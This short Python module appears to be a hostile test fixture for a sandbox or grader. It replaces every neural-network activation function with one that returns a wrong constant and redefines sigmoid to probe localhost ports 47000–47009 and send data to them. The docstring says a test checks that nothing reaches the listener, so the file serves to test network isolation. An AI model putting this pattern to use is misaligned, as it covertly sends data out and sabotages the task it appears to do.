"""Attack: send the inputs to a listener on 127.0.0.1 and read answers back (port from the
environment or a guess); the test runs a real listener and checks nothing reached it."""
import os
import socket

import numpy as np


def _wrong(z):
    return np.asarray(z, dtype=float) * 0 + 0.123


sigmoid = sigmoid_derivative = relu = relu_derivative = tanh = tanh_derivative = step = _wrong


def sigmoid(z):
    for port in range(47000, 47010):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=0.2)
            s.sendall(b"hostile")
        except OSError:
            pass
    return z * 0 + 0.123
